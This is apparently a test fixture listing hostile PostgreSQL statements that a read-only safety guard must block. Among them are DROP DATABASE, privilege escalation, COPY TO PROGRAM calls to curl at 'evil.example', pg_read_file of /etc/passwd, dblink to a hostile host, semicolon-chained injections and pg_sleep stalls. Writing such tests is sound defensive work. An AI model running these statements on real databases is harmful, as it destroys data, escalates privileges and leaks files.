-- Hostile statements the ReadOnlySafetyGuard must block. Entries are separated by a line holding only "====".
-- Each entry is one test case; the guard sees the entry's text exactly (newlines included).
====
DELETE FROM employees
====
DELETE FROM employees WHERE id = 1 RETURNING *
====
INSERT INTO employees (id, name) VALUES (1, 'x')
====
INSERT INTO audit SELECT * FROM employees
====
UPDATE employees SET salary = 0
====
UPDATE employees SET salary = salary * 2 WHERE id IN (SELECT id FROM employees)
====
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
====
TRUNCATE employees
====
TRUNCATE TABLE employees CASCADE
====
DROP TABLE employees
====
DROP SCHEMA public CASCADE
====
DROP DATABASE prod
====
CREATE TABLE x (id int)
====
CREATE TABLE x AS SELECT * FROM employees
====
CREATE VIEW v AS SELECT 1
====
CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql
====
CREATE EXTENSION dblink
====
CREATE ROLE attacker SUPERUSER
====
ALTER TABLE employees ADD COLUMN pwned int
====
ALTER ROLE app SUPERUSER
====
ALTER SYSTEM SET shared_buffers = '1GB'
====
COMMENT ON TABLE employees IS 'x'
====
GRANT ALL ON employees TO public
====
REVOKE SELECT ON employees FROM app
====
COPY employees TO '/tmp/out.csv'
====
COPY employees TO PROGRAM 'curl http://evil.example/x'
====
COPY (SELECT * FROM employees) TO PROGRAM 'sh -c id'
====
COPY employees FROM PROGRAM 'cat /etc/passwd'
====
SET search_path = evil, public
====
SET ROLE postgres
====
SET SESSION AUTHORIZATION postgres
====
SET statement_timeout = 0
====
RESET ALL
====
BEGIN
====
START TRANSACTION
====
COMMIT
====
ROLLBACK
====
SAVEPOINT s1
====
LOCK TABLE employees IN ACCESS EXCLUSIVE MODE
====
CALL do_something()
====
DO $$ BEGIN PERFORM pg_sleep(10); END $$
====
DO 'BEGIN DELETE FROM employees; END'
====
EXPLAIN ANALYZE DELETE FROM employees
====
EXPLAIN ANALYZE SELECT * FROM employees
====
EXPLAIN SELECT 1
====
VACUUM FULL
====
VACUUM employees
====
ANALYZE employees
====
REINDEX DATABASE prod
====
CLUSTER employees
====
CHECKPOINT
====
DISCARD ALL
====
LISTEN channel
====
NOTIFY channel, 'payload'
====
UNLISTEN *
====
PREPARE p AS SELECT 1
====
PREPARE p AS DELETE FROM employees
====
EXECUTE p
====
DEALLOCATE p
====
DECLARE c CURSOR FOR SELECT * FROM employees
====
FETCH ALL FROM c
====
SHOW ALL
====
SECURITY LABEL ON TABLE employees IS 'x'
====
REFRESH MATERIALIZED VIEW mv
====
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
====
LOAD 'plpgsql'
====
SELECT 1; DELETE FROM employees
====
SELECT 1; DROP TABLE employees;
====
SELECT 1;;
====
SELECT 1 /* comment */ ; DELETE FROM employees
====
SELECT 1 -- a comment with ; inside
; DROP TABLE employees
====
SELECT 'a' ; SELECT pg_sleep(10)
====
SELECT 'it''s' AS x; TRUNCATE employees
====
SELECT 'a\'; DELETE FROM employees; --'
====
SELECT $$ text $$; DELETE FROM employees
====
SELECT "col;" FROM t; UPDATE t SET a = 1
====
WITH x AS (DELETE FROM employees RETURNING *) SELECT * FROM x
====
WITH x AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT * FROM x
====
WITH x AS (UPDATE employees SET salary = 0 RETURNING id) SELECT count(*) FROM x
====
WITH a AS (SELECT 1), b AS MATERIALIZED (DELETE FROM employees RETURNING 1) SELECT * FROM a
====
WITH RECURSIVE r AS (SELECT 1) , d AS (DELETE FROM t) SELECT * FROM r
====
SELECT pg_sleep(10)
====
SELECT PG_SLEEP(10)
====
SELECT pg_catalog.pg_sleep(10)
====
SELECT "pg_sleep"(10)
====
SELECT * FROM employees WHERE pg_sleep(10) IS NOT NULL
====
SELECT * FROM employees ORDER BY pg_sleep(1)
====
SELECT count(*) FROM employees GROUP BY id HAVING pg_sleep(1) IS NULL
====
SELECT (SELECT pg_sleep(5))
====
SELECT * FROM (SELECT pg_sleep_for('5 minutes')) s
====
SELECT pg_sleep_until(now() + interval '1 hour')
====
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
====
SELECT dblink_exec('host=evil', 'DROP TABLE x')
====
SELECT dblink_connect('conn', 'host=evil')
====
SELECT lo_import('/etc/passwd')
====
SELECT lo_export(16385, '/tmp/x')
====
SELECT lo_create(0)
====
SELECT set_config('statement_timeout', '0', false)
====
SELECT current_setting('data_directory')
====
SELECT pg_read_file('/etc/passwd')
====
SELECT pg_read_binary_file('/etc/passwd')
====
SELECT * FROM pg_ls_dir('.')
====
SELECT pg_stat_file('postgresql.conf')
====
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
====
SELECT pg_cancel_backend(123)
====
SELECT pg_reload_conf()
====
SELECT pg_advisory_lock(1)
====
SELECT pg_try_advisory_xact_lock(42)
====
SELECT txid_current()
====
SELECT pg_current_xact_id()
====
SELECT nextval('employees_id_seq')
====
SELECT setval('employees_id_seq', 1)
====
SELECT query_to_xml('DELETE FROM employees RETURNING 1', true, true, '')
====
SELECT database_to_xml(true, true, '')
====
SELECT pg_logical_emit_message(true, 'x', 'y')
====
SELECT pg_notify('channel', 'x')
====
SELECT pg_switch_wal()
====
SELECT pg_create_restore_point('x')
====
SELECT setseed(0.5)
====
SELECT public.evil_function(1)
====
SELECT my_udf(name) FROM employees
====
SELECT length(pg_read_file('/etc/passwd'))
====
SELECT upper(x) FROM (SELECT pg_sleep(3) AS x) s
====
SELECT sum(pg_sleep(1)) OVER () FROM employees
====
SELECT * INTO stolen FROM employees
====
SELECT * INTO TEMP stolen FROM employees
====
SELECT * FROM employees FOR UPDATE
====
SELECT * FROM employees FOR SHARE
====
SELECT * FROM employees FOR NO KEY UPDATE
====
SELECT * FROM employees FOR KEY SHARE SKIP LOCKED
====
SELECT * FROM employees WHERE id IN (SELECT id FROM employees FOR UPDATE)
====
SELECT $tag$a'b$tag$, pg_sleep(1)
====
SELECT 1 /* unterminated comment
====
SELECT 'unterminated
====
SELECT "unterminated
====
SELECT $$ unterminated
====
SELECT * FROM employees WHERE name = 'x' OR pg_sleep(10) = ''
====
SELECT /* hidden */ pg_sleep /* call */ (10)
====
select
  pg_sleep(1)
====
SELECT 1 FROM employees; -- trailing comment
DELETE FROM employees
====
(DELETE FROM employees)
====
VALUES ((SELECT pg_sleep(1)))
====
SELECT * FROM ROWS FROM (pg_ls_dir('.'))
====
SELECT * FROM generate_series(1, 3) g, LATERAL pg_sleep(1)
====
SELECT * FROM t TABLESAMPLE evil_sampler (10)
====
SELECT xmlparse(document pg_read_file('x'))
====
SELECT 1 UNION SELECT pg_sleep(1)
====
SELECT a FROM t UNION ALL (SELECT b FROM u FOR UPDATE)
====
WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x
====
WITH pg_sleep(a) AS (SELECT 1) SELECT pg_sleep(10) FROM pg_sleep
